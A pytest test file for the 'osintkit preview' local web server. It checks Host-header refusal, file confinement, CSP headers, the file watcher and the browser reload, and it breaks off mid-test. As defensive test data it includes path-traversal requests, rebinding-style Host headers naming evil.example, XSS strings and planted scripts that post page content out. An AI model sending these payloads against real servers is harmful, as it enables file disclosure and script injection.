"""`osintkit preview`: a live page that follows every save, shows problems, and stays local.

The server is tested over real sockets on 127.0.0.1 (the Host check, the confinement of the
files it serves, the reload channel), the watcher against real file changes, the command as a
subprocess (Ctrl-C, the URL, the terminal's build lines), and the page in headless Chromium
driven by ``tests/preview/browser.mjs`` with the playwright-core of ``tests/validity/``. The
browser tests skip when Node, Chromium or those packages are missing, and fail instead under
CI, where a skip would hide a broken set-up.

Every wait is a poll with a deadline that only guards against a hang; nothing asserts on time.
"""

from __future__ import annotations

import contextlib
import json
import os
import queue
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from osintkit.cli import app
from osintkit.preview import Build, PreviewServer, PreviewSession, rebuild_on_change
from osintkit.render.html import POLICY_META

ROOT = Path(__file__).resolve().parents[1]
DRIVER = ROOT / "tests" / "preview" / "browser.mjs"
NODE_MODULES = ROOT / "tests" / "validity" / "node_modules"
TITLE = "Minsk and Tehran: A Test Brief"
#: Long enough for anything here to happen many times over; reaching it is a failure.
DEADLINE = 20.0


# --- helpers -------------------------------------------------------------------------------


def save(path: Path, text: str) -> None:
    """Write ``text`` the way many editors save: a new file renamed over the old one."""
    temporary = path.with_name(f".{path.name}.saving")
    temporary.write_text(text, encoding="utf-8")
    temporary.replace(path)


def edit(path: Path, pattern: str, replacement: str) -> None:
    text = path.read_text(encoding="utf-8")
    changed = re.sub(pattern, replacement, text, count=1, flags=re.M)
    assert changed != text, pattern
    save(path, changed)


def located(brief: Path, text: str, column: int) -> str:
    """``brief:line:column`` of the first line of the brief starting with ``text``."""
    lines = brief.read_text(encoding="utf-8").splitlines()
    line = next(i for i, line in enumerate(lines, 1) if line.startswith(text))
    return f"{brief}:{line}:{column}"


@dataclass
class Response:
    status: int
    headers: dict[str, str]
    body: bytes


def request(port: int, path: str, host: str | None = "", extra: str = "") -> Response:
    """Send one raw HTTP/1.0 GET, so that the Host header and the path are exactly as given.

    ``host`` "" means the right one, None none at all.
    """
    if host == "":
        host = f"127.0.0.1:{port}"
    head = f"GET {path} HTTP/1.0\r\n"
    if host is not None:
        head += f"Host: {host}\r\n"
    head += extra + "\r\n"
    with socket.create_connection(("127.0.0.1", port), timeout=DEADLINE) as connection:
        connection.sendall(head.encode("latin-1"))
        data = b""
        while chunk := connection.recv(65536):
            data += chunk
    header_block, _, body = data.partition(b"\r\n\r\n")
    status_line, *header_lines = header_block.decode("latin-1").split("\r\n")
    headers = {}
    for line in header_lines:
        name, _, value = line.partition(":")
        headers[name.strip().lower()] = value.strip()
    return Response(int(status_line.split()[1]), headers, body)


class Events:
    """The page's reload channel, read as the browser's EventSource reads it."""

    def __init__(self, port: int) -> None:
        self.connection = socket.create_connection(("127.0.0.1", port), timeout=DEADLINE)
        self.connection.sendall(
            f"GET /__osintkit/events HTTP/1.0\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode()
        )
        self.stream = self.connection.makefile("rb")
        status = self.stream.readline()
        assert b" 200 " in status, status
        while self.stream.readline().strip():
            pass  # the headers

    def next(self) -> str:
        """Return the data of the next message (a build's generation); comments skipped."""
        for line in self.stream:
            if line.startswith(b"data: "):
                return line[6:].decode().strip()
        raise AssertionError("the reload channel closed")

    def close(self) -> None:
        self.stream.close()
        self.connection.close()


@pytest.fixture
def folder(tmp_path: Path, fixtures_dir: Path) -> Path:
    """A folder of briefs: the test registry and minimal.yaml."""
    briefs = tmp_path / "briefs"
    briefs.mkdir()
    shutil.copy(fixtures_dir / "series.yaml", briefs / "series.yaml")
    shutil.copy(fixtures_dir / "minimal.yaml", briefs / "minimal.yaml")
    return briefs


@pytest.fixture
def served(folder: Path) -> Iterator[PreviewServer]:
    """minimal.yaml rendered once and served in this process."""
    session = PreviewSession(folder / "minimal.yaml")
    assert session.rebuild().ok
    with PreviewServer(session) as server:
        yield server


# --- the server ----------------------------------------------------------------------------


def test_the_server_answers_on_the_printed_loopback_address(served: PreviewServer) -> None:
    assert served.url == f"http://127.0.0.1:{served.port}/"
    response = request(served.port, "/")
    assert response.status == 200
    assert response.headers["content-type"] == "text/html; charset=utf-8"
    assert response.headers["cache-control"] == "no-store"
    assert f'<h1 class="title">{TITLE}</h1>' in response.body.decode()
    # Only the injected script may run: its nonce is the policy's.
    nonce = re.search(r"script-src 'nonce-([^']+)'", response.headers["content-security-policy"])
    assert nonce and f'<script nonce="{nonce.group(1)}"' in response.body.decode()


@pytest.mark.parametrize(
    "headers",
    [
        "Host: localhost:{port}\r\n",
        "Host: LOCALHOST:{port}\r\n",
        "Host: 127.0.0.1\r\n",
        "Host: 127.0.0.1:{other}\r\n",
        "Host: evil.example:{port}\r\n",
        "Host: 127.0.0.1.nip.io:{port}\r\n",
        "Host: 127.0.0.1:{port}.evil.example\r\n",
        "Host: [::1]:{port}\r\n",
        "Host: \r\n",
        "",
        "Host: 127.0.0.1:{port}\r\nHost: evil.example:{port}\r\n",
    ],
    ids=lambda headers: headers.replace("\r\n", " ").strip() or "no Host",
)
def test_any_other_host_header_is_refused(served: PreviewServer, headers: str) -> None:
    # A page on another site that points its own name at 127.0.0.1 sends its own name here.
    port = served.port
    response = request(port, "/", host=None, extra=headers.format(port=port, other=port + 1))
    assert response.status == 421
    assert TITLE.encode() not in response.body


@pytest.fixture
def with_images(folder: Path, make_png: Callable[..., bytes]) -> Path:
    """minimal.yaml showing an image beside it and one in a subfolder, and files it must not
    get: one outside the folder, symlinks to it, one the report does not show."""
    (folder / "chart.png").write_bytes(make_png())
    (folder / "img").mkdir()
    (folder / "img" / "map one.png").write_bytes(make_png(colour=(0, 0, 200)))
    outside = folder.parent / "outside.png"
    outside.write_bytes(b"secret outside the brief's folder")
    (folder / "link.png").symlink_to(outside)
    (folder / "img" / "up.png").symlink_to(Path("..") / ".." / "outside.png")
    (folder / "unreferenced.png").write_bytes(b"\x89PNG never loaded by the report")
    edit(
        folder / "minimal.yaml",
        r"^geopolitical_context: \|\n",
        "geopolitical_context: |\n"
        "  ![chart](chart.png) ![map](img/map%20one.png) ![web](https://example.org/a.png)\n\n",
    )
    return folder


def test_the_report_s_images_are_inlined_so_none_is_served(with_images: Path) -> None:
    session = PreviewSession(with_images / "minimal.yaml")
    assert session.rebuild().ok
    page = session.snapshot().html or ""
    sources = re.findall(r'<img src="([^"]*)"', page)
    assert len(sources) == 2 and all(s.startswith("data:image/png;base64,") for s in sources)
    with PreviewServer(session) as server:
        for path in ("/chart.png", "/img/map%20one.png"):
            assert request(server.port, path).status == 404, path


@pytest.mark.parametrize(
    ("image", "problem"),
    [
        ("../outside.png", "lies outside the brief's folder"),
        ("link.png", "lies outside the brief's folder"),
        ("img/up.png", "lies outside the brief's folder"),
        ("%2e%2e/outside.png", "lies outside the brief's folder"),
        ("/etc/hostname", "is an absolute path"),
        ("unreferenced.png", "is not a PNG, JPEG, GIF, WebP or SVG image"),
    ],
)
def test_an_image_the_report_cannot_show_is_a_located_error(
    with_images: Path, image: str, problem: str
) -> None:
    brief = with_images / "minimal.yaml"
    edit(brief, r"^  !\[chart\]\(chart.png\)", f"  ![x]({image})")
    build = PreviewSession(brief).rebuild()
    assert not build.ok
    (error,) = build.errors
    assert error.startswith(f"{located(brief, '  ![x]', 3)}: geopolitical_context: figure "), error
    assert problem in error


@pytest.mark.parametrize(
    "path",
    [
        "/../outside.png",  # the path as a hostile client sends it, not as a browser would
        "/%2e%2e/outside.png",
        "/%2E%2E%2Foutside.png",
        "/img/../../outside.png",
        "/outside.png",  # what a browser asks for `../outside.png`: not in the folder
        "/link.png",  # a symlink inside the folder to a file outside it
        "/img/up.png",  # a relative symlink out of it
        "//etc/hostname",
        "/%2Fetc%2Fhostname",
        "/etc/hostname",
        "/minimal.yaml",  # in the folder, but the report does not load it
        "/series.yaml",
        "/unreferenced.png",  # in the folder, but the report does not load it
        "/img/",
        "/img",
        "/chart.png%00.txt",
        "/__osintkit/report.pdf",  # an HTML preview has no PDF
    ],
)
def test_nothing_outside_the_report_s_own_files_is_served(with_images: Path, path: str) -> None:
    session = PreviewSession(with_images / "minimal.yaml")
    assert session.rebuild().ok
    with PreviewServer(session) as server:
        response = request(server.port, path)
    assert response.status == 404, path
    assert b"secret" not in response.body and TITLE.encode() not in response.body


def directives(policy: str) -> dict[str, list[str]]:
    """A Content-Security-Policy header as {directive: [values]}."""
    parsed: dict[str, list[str]] = {}
    for part in policy.split(";"):
        if part.strip():
            name, *values = part.split()
            parsed[name.lower()] = values
    return parsed


def assert_inert(response: Response) -> None:
    """Opened as a document, ``response`` gets an opaque origin, runs no script, loads nothing
    that could carry the report away, and is not read as anything but its Content-Type."""
    policy = directives(response.headers["content-security-policy"])
    assert policy["sandbox"] == [], policy  # no allow-scripts, no allow-same-origin
    assert policy["default-src"] == ["'none'"], policy
    assert "script-src" not in policy and "connect-src" not in policy, policy
    assert set(policy.get("img-src", [])) <= {"'self'", "data:"}, policy
    assert set(policy.get("style-src", [])) <= {"'unsafe-inline'"}, policy
    assert response.headers["x-content-type-options"] == "nosniff"


#: Files a report may load, and the Content-Type each passive one is served as.
TYPED = {
    "chart.png": "image/png",
    "photo.JPG": "image/jpeg",
    "figure.svg": "image/svg+xml",
    "anim.gif": "image/gif",
    "pic.webp": "image/webp",
    "font.woff2": "font/woff2",
    "clip.mp4": "video/mp4",
    "page.html": None,
    "page.htm": None,
    "page.xhtml": None,
    "page.shtml": None,
    "data.xml": None,
    "drawing.xsl": None,
    "code.js": None,
    "code.mjs": None,
    "paper.pdf": None,
    "notes.txt": None,
    "data.json": None,
    "archive.svgz": None,
    "no-extension": None,
    "chart.png.html": None,
}


@pytest.fixture
def typed_files(folder: Path) -> Path:
    """A template whose CSS loads one file of each name in TYPED, each holding a script.

    Figures in Markdown are inlined into the page (and must be real images), so what the
    preview still serves from the folder is what the template's CSS asks for.
    """
    for name in TYPED:
        (folder / name).write_text(
            "<html><script>parent.postMessage(document.body.innerHTML, '*')</script></html>",
            encoding="utf-8",
        )
    template = folder / "tpl"
    shutil.copytree(ROOT / "report_templates" / "series", template)
    rules = "".join(f'.t{i} {{ background: url("{name}") }}\n' for i, name in enumerate(TYPED))
    with (template / "report.css").open("a", encoding="utf-8") as css:
        css.write(rules)
    return folder


@pytest.mark.parametrize(("name", "kind"), TYPED.items(), ids=list(TYPED))
def test_only_passive_types_are_served_and_never_as_a_live_document(
    typed_files: Path, name: str, kind: str | None
) -> None:
    session = PreviewSession(typed_files / "minimal.yaml", template=str(typed_files / "tpl"))
    assert session.rebuild().ok
    assert f"/{name}" in session.snapshot().assets  # the report loads it
    with PreviewServer(session) as server:
        response = request(server.port, f"/{name}")
    if kind is None:
        # HTML, XML, script and any type not known to be passive would be a document of the
        # preview's origin, able to read the report: not served at all.
        assert response.status == 404, response.headers
        assert b"<script>" not in response.body
    else:
        assert response.status == 200
        assert response.headers["content-type"] == kind
    assert_inert(response)


@pytest.mark.parametrize(
    ("head", "status", "kind"),
    [
        ("GET /missing.png HTTP/1.0\r\nHost: {host}", 404, "text/plain; charset=utf-8"),
        ("GET /favicon.ico HTTP/1.0\r\nHost: {host}", 204, None),
        ("GET /__osintkit/report.pdf HTTP/1.0\r\nHost: {host}", 404, "text/plain; charset=utf-8"),
        (
            "HEAD /__osintkit/events HTTP/1.0\r\nHost: {host}",
            200,
            "text/event-stream; charset=utf-8",
        ),
        ("GET / HTTP/1.0\r\nHost: evil.example", 421, "text/plain; charset=utf-8"),
        ("POST / HTTP/1.0\r\nHost: {host}", 501, "text/plain; charset=utf-8"),
        ("GET / HTTP/1.0" + "\r\nX: <svg/onload=alert(1)>" * 101, 431, "text/plain; charset=utf-8"),
        ("GET /" + "a" * 70_000 + " HTTP/1.0", 414, "text/plain; charset=utf-8"),
    ],
    ids=["404", "favicon", "no PDF", "events", "421", "501", "431", "414"],
)
def test_every_other_response_is_inert_too(
    served: PreviewServer, head: str, status: int, kind: str | None
) -> None:
    # Errors included, and those the standard library makes itself: its HTML error page
    # is a document of the preview's origin.
    with socket.create_connection(("127.0.0.1", served.port), timeout=DEADLINE) as sock:
        sock.sendall(head.format(host=served.host).encode() + b"\r\n\r\n")
        data = sock.makefile("rb").read()
    header_block, _, body = data.partition(b"\r\n\r\n")
    status_line, *lines = header_block.decode("latin-1").split("\r\n")
    headers = {k.strip().lower(): v.strip() for k, _, v in (x.partition(":") for x in lines)}
    assert int(status_line.split()[1]) == status
    assert headers.get("content-type") == kind
    assert_inert(Response(status, headers, body))


def test_only_get_and_head_are_answered(served: PreviewServer) -> None:
    def status_line(method: str) -> bytes:
        with socket.create_connection(("127.0.0.1", served.port), timeout=DEADLINE) as sock:
            sock.sendall(f"{method} / HTTP/1.0\r\nHost: {served.host}\r\n\r\n".encode())
            return sock.makefile("rb").readline()

    assert b" 200 " in status_line("HEAD")
    for method in ("POST", "PUT", "DELETE", "OPTIONS"):
        assert b" 501 " in status_line(method), method


def test_a_broken_brief_shows_its_problems_escaped_over_the_last_good_report(
    folder: Path,
) -> None:
    brief = folder / "minimal.yaml"
    session = PreviewSession(brief)
    assert session.rebuild().ok
    good = brief.read_text(encoding="utf-8")
    save(brief, good.replace("volume: 29", "volume: two") + '"<img src=x onerror=alert(1)>": 1\n')
    build = session.rebuild([brief])
    assert not build.ok
    with PreviewServer(session) as server:
        page = request(server.port, "/").body.decode()
    assert f'<h1 class="title">{TITLE}</h1>' in page  # the last good report, not a blank page
    overlay = page[page.index('<div id="osintkit-preview-errors"') :]
    assert f"{located(brief, 'volume:', 9)}: volume: input should be a valid integer" in overlay
    assert "&lt;img src=x onerror=alert(1)&gt;: unknown field" in overlay
    assert "<img src=x" not in page
    save(brief, good)
    assert session.rebuild([brief]).ok
    with PreviewServer(session) as server:
        assert "osintkit-preview-errors" not in request(server.port, "/").body.decode()


def test_a_brief_broken_from_the_start_shows_its_problems(folder: Path) -> None:
    brief = folder / "minimal.yaml"
    edit(brief, r"^issue: 3$", "isue: 3")
    session = PreviewSession(brief)
    assert not session.rebuild().ok
    with PreviewServer(session) as server:
        page = request(server.port, "/").body.decode()
    assert "No report yet" in page
    assert "isue: unknown field; did you mean &#x27;issue&#x27;?" in page


def test_the_reload_channel_announces_every_build(served: PreviewServer) -> None:
    events = Events(served.port)
    try:
        first = events.next()  # on connect: the build the page should show
        assert first == served.session.snapshot().generation
        served.session.rebuild()
        second = events.next()
        assert second != first and second == served.session.snapshot().generation
    finally:
        events.close()


def test_the_reload_script_is_only_in_the_served_page(
    served: PreviewServer, folder: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    result = CliRunner().invoke(
        app, ["render", str(folder / "minimal.yaml"), "-f", "html", "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    written = (out / "minimal.html").read_text(encoding="utf-8")
    # Its one script element is the JSON-LD record, data that never runs.
    assert re.findall(r"<script\b[^>]*>", written) == ['<script type="application/ld+json">']
    assert "__osintkit" not in written
    page = request(served.port, "/").body.decode()
    script = re.search(r"<script nonce=[^>]*>.*?</script>\n", page, re.S)
    assert script and "EventSource" in script.group()
    # The report's own policy would block the reload script: the server's header replaces it.
    assert POLICY_META in written and POLICY_META not in page
    assert page.replace(script.group(), "") == written.replace(POLICY_META, "", 1)


# --- the watcher ---------------------------------------------------------------------------


@dataclass
class Watched:
    session: PreviewSession
    builds: list[Build]

    def until(self, condition: Callable[[], object]) -> None:
        """Wait for builds until ``condition()`` holds."""
        deadline = time.monotonic() + DEADLINE
        seen = ""
        while not condition():
            assert time.monotonic() < deadline, "no build brought the expected change"
            seen = self.session.wait_for_build(seen, 0.2)

    def page(self) -> str:
        return self.session.snapshot().html or ""

    def built_from(self, path: Path) -> bool:
        return any(path in build.changed for build in self.builds)


@pytest.fixture
def watched(folder: Path, make_png: Callable[..., bytes]) -> Iterator[Watched]:
    """minimal.yaml with a template of its own and an image, rebuilt by a watcher thread."""
    shutil.copytree(ROOT / "report_templates" / "series", folder / "report_templates" / "series")
    (folder / "chart.png").write_bytes(make_png())
    images = r"\g<0>  ![chart](chart.png)\n"
    edit(folder / "minimal.yaml", r"^geopolitical_context: \|\n", images)
    session = PreviewSession(folder / "minimal.yaml")
    assert session.rebuild().ok
    builds: list[Build] = []
    stop = threading.Event()
    thread = threading.Thread(
        target=rebuild_on_change, args=(session, builds.append, stop), daemon=True
    )
    thread.start()
    try:
        yield Watched(session, builds)
    finally:
        stop.set()
        thread.join(DEADLINE)
        assert not thread.is_alive()


def test_saving_the_brief_the_registry_or_the_template_rebuilds(
    watched: Watched, folder: Path
) -> None:
    edit(folder / "minimal.yaml", r"^title: .*$", 'title: "Saved Once"')
    watched.until(lambda: '<h1 class="title">Saved Once</h1>' in watched.page())

    edit(folder / "series.yaml", r"^  title: Persian Files$", "  title: Persian Files Weekly")
    watched.until(lambda: "Persian Files Weekly" in watched.page())

    labels = folder / "report_templates" / "series" / "labels" / "en.yaml"
    edit(labels, r"^executive_summary: .*$", "executive_summary: Summary For Busy Readers")
    watched.until(lambda: "Summary For Busy Readers" in watched.page())

    css = folder / "report_templates" / "series" / "report.css"
    css.write_text(css.read_text(encoding="utf-8") + "\n/* edited-in-preview */\n", "utf-8")
    watched.until(lambda: "edited-in-preview" in watched.page())


def test_every_template_a_variant_extends_is_watched(folder: Path) -> None:
    parent = folder / "look"
    shutil.copytree(ROOT / "report_templates" / "series", parent)
    variant = folder / "variant"
    variant.mkdir()
    (variant / "template.yaml").write_text("extends: ../look\n", encoding="utf-8")
    session = PreviewSession(folder / "minimal.yaml", template=str(variant))
    assert session.rebuild().ok
    assert {variant.resolve(), parent.resolve()} <= session.inputs.folders
    assert session.inputs.affected_by((parent / "labels" / "en.yaml").resolve())
    assert parent.resolve() / "labels" in session.inputs.watch_folders()


def test_saving_an_image_the_report_loads_rebuilds(
    watched: Watched, folder: Path, make_png: Callable[..., bytes]
) -> None:
    chart = (folder / "chart.png").resolve()
    before = watched.page()
    chart.write_bytes(make_png(colour=(0, 200, 0)))
    watched.until(lambda: watched.built_from(chart) and watched.page() != before)


def test_an_image_that_appears_later_in_a_new_folder_rebuilds(
    watched: Watched, folder: Path, make_png: Callable[..., bytes]
) -> None:
    brief = folder / "minimal.yaml"
    edit(brief, r"^  !\[chart\]\(chart.png\)$", "  ![chart](chart.png) ![map](img/map.png)")
    watched.until(lambda: any("does not exist" in e for e in watched.session.snapshot().errors))
    image = (folder / "img" / "map.png").resolve()
    assert image in watched.session.inputs.files  # watched while missing
    (folder / "img").mkdir()
    image.write_bytes(make_png(colour=(0, 0, 200)))
    # The build may be set off by the new folder or by the image, whichever is seen first;
    # either way a build has then read the image as it is on disk.
    watched.until(lambda: watched.page().count('<img src="data:image/png') == 2)
    assert watched.built_from(image) or watched.built_from(image.parent)


def test_other_files_do_not_rebuild(watched: Watched, folder: Path) -> None:
    (folder / "notes.txt").write_text("not an input", encoding="utf-8")
    (folder / ".minimal.yaml.swp").write_bytes(b"an editor's swap file")
    (folder / "unused.png").write_bytes(b"\x89PNG not in the report")
    # Then a real change: every build up to the one it makes was made by it.
    edit(folder / "minimal.yaml", r"^title: .*$", 'title: "After Noise"')
    watched.until(lambda: "After Noise" in watched.page())
    assert {path.name for build in watched.builds for path in build.changed} == {"minimal.yaml"}


# --- the command ---------------------------------------------------------------------------


class PreviewProcess:
    """``python -m osintkit preview`` in a subprocess, its output read as it comes."""

    def __init__(self, *args: str, env: dict[str, str] | None = None) -> None:
        self.process = subprocess.Popen(
            [sys.executable, "-m", "osintkit", "preview", *args],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env={**os.environ, "PYTHONUNBUFFERED": "1", "NO_COLOR": "1", **(env or {})},
        )
        self.stdout: list[str] = []
        self.stderr: list[str] = []
        self._lines: queue.Queue[str | None] = queue.Queue()
        self._printed = threading.Condition()
        assert self.process.stdout and self.process.stderr
        self._readers = [
            threading.Thread(target=self._read, args=(stream, stream is self.process.stdout))
            for stream in (self.process.stdout, self.process.stderr)
        ]
        for reader in self._readers:
            reader.start()
        self.url = self._wait_for_url()
        self.port = int(self.url.rsplit(":", 1)[1].strip("/"))

    def _read(self, stream: Any, is_stdout: bool) -> None:
        for line in stream:
            with self._printed:
                (self.stdout if is_stdout else self.stderr).append(line)
                self._printed.notify_all()
            if is_stdout:
                self._lines.put(line)
        if is_stdout:
            self._lines.put(None)

    def printed(self, pattern: str, *, stderr: bool = False) -> None:
        """Wait until a line matching ``pattern`` has been printed.

        The reload channel announces a build before the command prints it, so a test that
        stops the command on seeing the announcement must wait for the lines it checks.
        """
        lines = self.stderr if stderr else self.stdout
        deadline = time.monotonic() + DEADLINE
        with self._printed:
            while not any(re.search(pattern, line) for line in lines):
                left = deadline - time.monotonic()
                assert left > 0, f"{pattern!r} not printed: {''.join(lines)}"
                self._printed.wait(left)

    def _wait_for_url(self) -> str:
        while True:
            try:
                line = self._lines.get(timeout=DEADLINE)
            except queue.Empty:
                self.process.kill()
                raise AssertionError(f"no URL printed: {self.stdout} {self.stderr}") from None
            if line is None:
                raise AssertionError(f"preview ended: {self.stdout} {''.join(self.stderr)}")
            found = re.search(r"http://127\.0\.0\.1:\d+/", line)
            if found:
                return found.group()

    def interrupt(self) -> int:
        """Press Ctrl-C; return the exit code once everything printed has been read."""
        self.process.send_signal(signal.SIGINT)
        code = self.process.wait(timeout=DEADLINE)
        for reader in self._readers:
            reader.join(DEADLINE)
        return code

    def kill(self) -> None:
        if self.process.poll() is None:
            self.process.kill()
            self.process.wait()
        for reader in self._readers:
            reader.join(DEADLINE)


@pytest.fixture
def previews() -> Iterator[list[PreviewProcess]]:
    """Preview processes a test started, killed at its end if they still run."""
    started: list[PreviewProcess] = []
    yield started
    for process in started:
        process.kill()


def test_the_command_serves_follows_saves_and_stops_on_ctrl_c(
    folder: Path, previews: list[PreviewProcess]
) -> None:
    brief = folder / "minimal.yaml"
    preview = PreviewProcess(str(brief), "--no-open")
    previews.append(preview)
    events = Events(preview.port)
    try:
        shown = events.next()
        edit(brief, r"^title: .*$", 'title: "Edited Title"')
        shown = next_event(events, shown)
        assert '<h1 class="title">Edited Title</h1>' in request(preview.port, "/").body.decode()
        edit(brief, r"^volume: 29$", "volume: two")
        shown = next_event(events, shown)
        page = request(preview.port, "/").body.decode()
        assert f"{located(brief, 'volume:', 9)}: volume: input should be a valid integer" in page
    finally:
        events.close()
    preview.printed(re.escape(f"{located(brief, 'volume:', 9)}: volume:"), stderr=True)
    assert preview.interrupt() == 0
    stdout, stderr = "".join(preview.stdout), "".join(preview.stderr)
    assert "Traceback" not in stdout + stderr
    assert re.search(r"^\d\d:\d\d:\d\d built minimal\.yaml \(\d+\.\d\d s\)$", stdout, re.M)
    assert re.search(
        r"^\d\d:\d\d:\d\d rebuilt minimal\.yaml \(\d+\.\d\d s\)  ← minimal\.yaml$", stdout, re.M
    )
    assert re.search(r"^\d\d:\d\d:\d\d 1 problem in minimal\.yaml", stdout, re.M)
    assert f"{located(brief, 'volume:', 9)}: volume: input should be a valid integer" in stderr
    assert stdout.rstrip().endswith("preview stopped")


def next_event(events: Events, shown: str) -> str:
    """Return the first generation the channel announces after ``shown``."""
    while (generation := events.next()) == shown:
        pass
    return generation


def test_the_pdf_preview_frames_the_pdf_and_renders_it_again_on_save(
    folder: Path, previews: list[PreviewProcess]
) -> None:
    from pypdf import PdfReader

    brief = folder / "minimal.yaml"
    preview = PreviewProcess(str(brief), "--no-open", "--pdf")
    previews.append(preview)

    def pdf_text() -> str:
        page = request(preview.port, "/").body.decode()
        frame = re.search(r'<iframe src="(/__osintkit/report\.pdf\?v=[^"]+)"', page)
        assert frame, page
        response = request(preview.port, frame.group(1))
        assert response.headers["content-type"] == "application/pdf"
        return "".join(p.extract_text() for p in PdfReader(BytesIO(response.body)).pages)

    events = Events(preview.port)
    try:
        shown = events.next()
        assert "Minsk and Tehran" in pdf_text()
        edit(brief, r"^title: .*$", 'title: "A Paginated Edit"')
        next_event(events, shown)
        assert "A Paginated Edit" in pdf_text()
    finally:
        events.close()
    preview.printed(r"rebuilt minimal\.yaml \(1 page, \d+\.\d\d s\)")
    assert preview.interrupt() == 0


def test_the_browser_is_opened_on_the_printed_url_unless_no_open(
    folder: Path, tmp_path: Path, previews: list[PreviewProcess]
) -> None:
    # The stand-in browser sends the URL it was given to this socket.
    listener = socket.create_server(("127.0.0.1", 0))
    browser = tmp_path / "browser.py"
    browser.write_text(
        "import socket, sys\n"
        f"socket.create_connection(('127.0.0.1', {listener.getsockname()[1]}))"
        ".sendall(sys.argv[1].encode())\n",
        encoding="utf-8",
    )
    # webbrowser runs $BROWSER, with %s replaced by the URL, before any browser it finds.
    env = {"BROWSER": f"{sys.executable} {browser} %s"}
    brief = folder / "minimal.yaml"
    with listener:
        quiet = PreviewProcess(str(brief), "--no-open", env=env)
        previews.append(quiet)
        # A rebuild happens only once the command is past the point where it would open one.
        events = Events(quiet.port)
        try:
            shown = events.next()
            edit(brief, r"^title: .*$", 'title: "Watched Without A Browser"')
            next_event(events, shown)
        finally:
            events.close()
        assert quiet.interrupt() == 0
        listener.setblocking(False)
        with pytest.raises(BlockingIOError):
            listener.accept()

        listener.setblocking(True)
        listener.settimeout(DEADLINE)
        preview = PreviewProcess(str(brief), env=env)
        previews.append(preview)
        connection, _ = listener.accept()
        with connection, connection.makefile("rb") as stream:
            assert stream.read().decode() == preview.url
    assert preview.interrupt() == 0


def test_a_port_in_use_is_a_clean_error(folder: Path) -> None:
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        result = subprocess.run(
            [sys.executable, "-m", "osintkit", "preview", str(folder / "minimal.yaml"),
             "--no-open", "--port", str(port)],
            capture_output=True, text=True, timeout=60, check=False,
        )  # fmt: skip
    assert result.returncode == 1
    assert f"cannot serve on 127.0.0.1:{port}" in result.stderr
    assert "Traceback" not in result.stderr


# --- in the browser ------------------------------------------------------------------------


class Browser:
    """Headless Chromium, one page, driven through tests/preview/browser.mjs."""

    def __init__(self, node: str, chromium: str) -> None:
        self.process = subprocess.Popen(
            [node, str(DRIVER), chromium],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        self._answers: queue.Queue[str] = queue.Queue()
        threading.Thread(target=self._read, daemon=True).start()
        assert self._answer() == "ready"

    def _read(self) -> None:
        assert self.process.stdout
        for line in self.process.stdout:
            self._answers.put(line)

    def _answer(self) -> Any:
        try:
            line = self._answers.get(timeout=DEADLINE * 2)
        except queue.Empty:
            raise AssertionError("the browser driver stopped answering") from None
        answer = json.loads(line)
        if not answer["ok"]:
            raise AssertionError(answer["error"])
        return answer["value"]

    def send(self, **command: Any) -> Any:
        assert self.process.stdin
        self.process.stdin.write(json.dumps(command) + "\n")
        self.process.stdin.flush()
        return self._answer()

    def wait_for(self, expression: str) -> Any:
        """Poll ``expression`` in the page (across reloads) until it is truthy."""
        return self.send(waitFor=expression, timeout=DEADLINE * 1000)

    def close(self) -> None:
        assert self.process.stdin
        self.process.stdin.close()
        try:
            self.process.wait(timeout=DEADLINE)
        except subprocess.TimeoutExpired:
            self.process.kill()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    node, chromium = shutil.which("node"), shutil.which("chromium")
    missing = [name for name, ok in (("node", node), ("chromium", chromium)) if not ok]
    if not (NODE_MODULES / "playwright-core" / "package.json").is_file():
        missing.append(str(NODE_MODULES / "playwright-core"))
    if missing:
        reason = f"{', '.join(missing)} missing: run `bash scripts/setup.sh --dev`"
        if os.environ.get("CI"):
            pytest.fail(reason)
        pytest.skip(reason)
    assert node and chromium
    driver = Browser(node, chromium)
    yield driver
    driver.close()


OVERLAY = "document.getElementById('osintkit-preview-errors')"
HEADING = "document.querySelector('h1.title')?.textContent"
#: The page of Chromium's PDF viewer (the extension that shows a PDF in a frame).
PDF_VIEWER = "chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/"


def test_the_page_follows_saves_and_shows_errors_in_an_overlay(
    browser: Browser, folder: Path, previews: list[PreviewProcess]
) -> None:
    brief = folder / "minimal.yaml"
    preview = PreviewProcess(str(brief), "--no-open")
    previews.append(preview)
    browser.send(goto=preview.url)
    assert browser.send(evaluate=HEADING) == TITLE

    edit(brief, r"^title: .*$", 'title: "Minsk and Tehran: An Edited Brief"')
    browser.wait_for(f"{HEADING} === 'Minsk and Tehran: An Edited Brief'")

    edit(brief, r"^volume: 29$", "volume: two")
    error = f"{located(brief, 'volume:', 9)}: volume: input should be a valid integer"
    shown = browser.wait_for(
        f"{OVERLAY}?.innerText.includes({json.dumps(error)}) && {OVERLAY}.innerText"
    )
    assert "1 problem" in shown
    # Over the last good report, not a blank page, and drawn on top of it.
    assert browser.send(evaluate=HEADING) == "Minsk and Tehran: An Edited Brief"
    assert browser.send(
        evaluate=f"(() => {{ const r = {OVERLAY}.getBoundingClientRect(); "
        "return document.elementFromPoint(r.x + 5, r.y + r.height / 2)"
        f".closest('#osintkit-preview-errors') !== null; }})()"
    )

    edit(brief, r"^volume: two$", "volume: 29")
    browser.wait_for(f"{OVERLAY} === null && {HEADING} === 'Minsk and Tehran: An Edited Brief'")
    assert browser.send(problems=True) == []
    assert preview.interrupt() == 0


def test_the_scroll_position_survives_a_reload(
    browser: Browser, folder: Path, previews: list[PreviewProcess]
) -> None:
    brief = folder / "minimal.yaml"
    preview = PreviewProcess(str(brief), "--no-open")
    previews.append(preview)
    browser.send(goto=preview.url)
    height = browser.send(evaluate="document.documentElement.scrollHeight - innerHeight")
    assert height > 200, "the report must be taller than the window for this test"
    target = height // 2
